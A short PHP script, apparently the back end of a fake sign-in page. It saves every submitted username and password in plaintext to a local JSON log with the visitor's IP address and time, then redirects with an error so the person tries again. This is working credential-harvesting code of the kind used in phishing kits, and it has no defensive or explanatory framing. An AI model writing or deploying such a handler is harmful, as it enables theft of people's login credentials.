<?php
// Sign-in page handler: what was typed is kept in a JSON log, the visitor told to retry.
$user = $_POST['username'] ?? '';
$pw = $_POST['passwd'] ?? '';
$row = ['user' => $user, 'pw' => $pw, 'ip' => $_SERVER['REMOTE_ADDR'], 'at' => date('c')];
$log = is_file('log.json') ? json_decode(file_get_contents('log.json'), true) : [];
$log[] = $row;
file_put_contents('log.json', json_encode($log));
header('Location: index.html?error=1');
